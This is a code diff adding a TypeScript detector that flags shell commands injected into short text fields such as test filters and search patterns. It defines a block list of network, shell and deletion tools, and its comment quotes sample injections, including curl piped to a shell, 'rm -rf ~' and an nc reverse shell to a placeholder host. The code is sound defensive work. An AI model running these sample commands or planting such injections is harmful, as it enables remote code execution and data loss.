@@ -1,0 +1,43 @@
+import { commandWordAt } from "../command-word.js";
+import { findInjectedCommand } from "../injection.js";
+
+/**
+ * Programs an injected command line starts with: fetchers, shells and interpreters, raw
+ * sockets, deleters, the delay and lookup of blind injection, and the usual recon.
+ */
+const PAYLOAD_PROGRAMS = new Set(
+  "curl wget nc ncat netcat socat telnet bash sh zsh dash ksh python python2 python3 perl ruby php node powershell pwsh rm nslookup dig host sleep ping whoami id uname base64 chmod mkfifo".split(
+    " ",
+  ),
+);
+const OPERATOR_LENGTH: Readonly<Record<string, number>> = { "&&": 2, "||": 2, "$(": 2 };
+
+/**
+ * A shell command spliced into a short field read as text (a test filter, a search pattern or
+ * query): one token, then an operator and a program an injection runs (`test_*; curl x|sh`,
+ * `x' ; rm -rf ~`), or a substitution that is the whole value or glued to a token
+ * (`$(curl -s x|bash)`, `` `nc -e /bin/sh x 4444` ``, ``a`id`.png``). A server that builds
+ * `pytest -k <filter>` or `grep <pattern>` into a shell string runs it. Regex alternations
+ * (`TODO|FIXME`, `start|stop|kill`), code spans in prose (``fix: `id` column``), words before
+ * the operator and a program named without arguments (`WIP; rm old code`) pass.
+ */
+export function hasShellInText(value: string): boolean {
+  if (value.length > 300 || value.includes("\n")) return false;
+  const hit = findInjectedCommand(value);
+  if (hit === undefined) return false;
+  const head = value.slice(0, hit.at).trim();
+  if (/\s/.test(head)) return false;
+  const op = hit.operator;
+  const after = hit.at + (OPERATOR_LENGTH[op] ?? 1);
+  if (op === "$(" || op === "`") {
+    const close = value.indexOf(op === "`" ? "`" : ")", after);
+    if (close < 0) return false;
+    // Whole, or glued on both sides: a code span in prose has blanks around it.
+    if (/\s/.test(value[hit.at - 1] ?? "") || /\s/.test(value[close + 1] ?? "")) return false;
+  } else if (head === "" || ((op === "|" || op === "&") && value[after] !== " ")) return false;
+  const word = commandWordAt(value, after);
+  if (word === undefined || !PAYLOAD_PROGRAMS.has(word.name.replace(/^.*\//, ""))) return false;
+  // The program given something to work on: an option, a path, a host, a number, a pipe, or nothing.
+  const end = value.indexOf(word.name, after) + word.name.length;
+  return /^[\s)`'"]*$|[|/.$>~\d-]/.test(value.slice(end));
+}
